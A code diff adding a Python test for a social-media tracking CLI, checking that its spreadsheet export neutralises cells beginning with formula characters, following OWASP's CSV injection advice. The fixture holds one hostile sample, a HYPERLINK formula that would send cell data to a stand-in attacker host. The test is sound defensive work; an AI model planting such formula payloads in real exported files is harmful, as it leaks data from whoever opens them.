@@ -1006,3 +1006,31 @@ def test_subjects_show_each_persons_accounts_side_by_side(store: Store) -> None:
     assert [s["subject"] for s in only] == ["donald_trump"]
     none = store.ok("subjects", "--divergent", "--as-of", "2024-02-07")
     assert (none.stdout, none.stderr) == ("", "(no subjects)\n")
+
+
+def test_spreadsheet_csv_shows_formulas_instead_of_running_them(store: Store) -> None:
+    """Text from platforms may start a spreadsheet formula: --spreadsheet prefixes
+    such cells with ' (OWASP's CSV injection advice); --csv keeps the text as stored."""
+    store.append(account("twitter:a", "2020-01-01", handle="@a"))
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    store.append(
+        ev(
+            "post_published", "2020-02-01", account="twitter:a", post="p1",
+            excerpt=hostile, note="+1 more",
+        ),
+        ev(
+            "post_published", "2020-02-02", account="twitter:a", post="p2",
+            excerpt="@everyone", note="-1",
+        ),
+    )  # fmt: skip
+    plain = list(csv.DictReader(io.StringIO(store.ok("timeline", "--csv").stdout)))
+    safe = list(csv.DictReader(io.StringIO(store.ok("timeline", "--spreadsheet").stdout)))
+    assert [r["excerpt"] for r in plain] == ["", hostile, "@everyone"]
+    assert [r["excerpt"] for r in safe] == ["", "'" + hostile, "'@everyone"]
+    assert safe[0]["handle"] == "'@a"
+    assert [r["note"] for r in safe][1:] == ["'+1 more", "'-1"]
+    assert [r["sequence"] for r in safe] == ["0", "1", "2"]  # others as they are
+    document = store.ok("status", "twitter:a", "--spreadsheet").stdout
+    assert next(csv.DictReader(io.StringIO(document)))["handle"] == "'@a"
+    result = store.fail("timeline", "--csv", "--spreadsheet", code=2)
+    assert "choose one output format: --csv or --spreadsheet" in result.output
